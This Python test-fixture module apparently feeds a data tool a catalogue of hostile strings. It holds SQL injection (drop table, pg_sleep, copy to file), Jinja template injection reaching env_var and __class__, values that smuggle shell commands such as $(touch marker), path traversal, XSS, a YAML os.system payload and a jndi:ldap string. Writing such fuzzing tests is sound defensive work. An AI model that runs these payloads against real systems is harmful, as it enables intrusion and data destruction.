"""Strings that somebody, somewhere, has run: in SQL, Jinja, a shell, a path, a terminal, a page, a spreadsheet."""

from pathlib import Path

CANARY_VARIABLE = "SIYU_TEST_CANARY"
CANARY = "canary-of-the-environment-7f3a"  # its value: whatever expands the variable leaves this somewhere

_SEEDS = (
    # SQL
    "'; drop table {w}; --",
    "' or '1'='1",
    "x'); copy (select 1) to '{marker}'; --",
    "'; attach '{marker}' as a; --",
    "'; install httpfs; load httpfs; --",
    '"; drop schema marts cascade; --',
    "$$; drop table {w}; $$",
    "$tag$ {w} $tag$",
    "1; select pg_sleep(60)",
    "/* {w} */",
    "-- {w}",
    "\\'; drop table {w}; --",
    "%27%20or%201=1",
    "{w}' union select getenv('SIYU_TEST_CANARY') --",
    # Jinja
    "{{{{ env_var('SIYU_TEST_CANARY') }}}}",
    "{{{{ var('{w}') }}}}",
    "{{% do run_query('drop table {w}') %}}",
    "{{% set x = 1 %}}{w}",
    "{{# {w} #}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "{{{{ '{w}' * 9 }}}}",
    "%(SIYU_TEST_CANARY)s",
    # shells and formats
    "$(touch {marker})",
    "`touch {marker}`",
    "; touch {marker} #",
    "| touch {marker}",
    "&& touch {marker}",
    "$SIYU_TEST_CANARY",
    "${{SIYU_TEST_CANARY}}",
    "%s%n%x {w}",
    "{{0.__class__}}",
    "--help",
    "-rf {w}",
    "~/{w}",
    # paths
    "../../{w}",
    "..\\..\\{w}",
    "/etc/{w}",
    "file:///{w}",
    "C:\\{w}",
    "s3://{w}/x",
    "*",
    "{w}?[a-z]*",
    "NUL",
    # terminals and pages
    "\x1b[31m{w}\x1b[0m",
    "\x1b]0;{w}\x07",
    "\x1b[2J\x1b[H",
    "\x9b31m{w}",
    "\r{w}",
    "\x08\x08{w}",
    "[bold red]{w}[/bold red]",
    "[/]{w}",
    "[link=http://x.example]{w}[/link]",
    "<script>alert('{w}')</script>",
    "<img src=x onerror={w}>",
    "&lt;{w}&gt;",
    "\u202e{w}\u202c",
    # text that is merely hard
    '"',
    "'",
    "\\",
    "`{w}`",
    "\x00{w}",
    "{w}\x00{w}",
    "null",
    "NaN",
    "true",
    "=1+1",
    "@{w}",
    "😀👩‍👩‍👧‍👦{w}",
    "𠮷野家{w}",
    "e\u0301{w}",
    "\ufeff{w}",
    "ｆｕｌｌ－ｗｉｄｔｈ{w}",
    "\u200b{w}",
    "{w}\n{w}",
    "{w}\t{w}",
    "{w}," * 5,
    "A" * 3_000,
    "!!python/object/apply:os.system ['touch {marker}']",
    "&a [*a, *a] {w}",
    "${{jndi:ldap://x.example/{w}}}",
)


def hostile_strings(marker: Path) -> list[str]:
    """At least 200 different strings; whatever runs one of them may leave the file `marker`."""
    words = ("marts.kpi_daily", "canary_table", "用户", "raw.files__orders")
    found: dict[str, None] = {}
    for seed in _SEEDS:
        for word in words:
            found[seed.format(w=word, marker=marker)] = None
    return list(found)
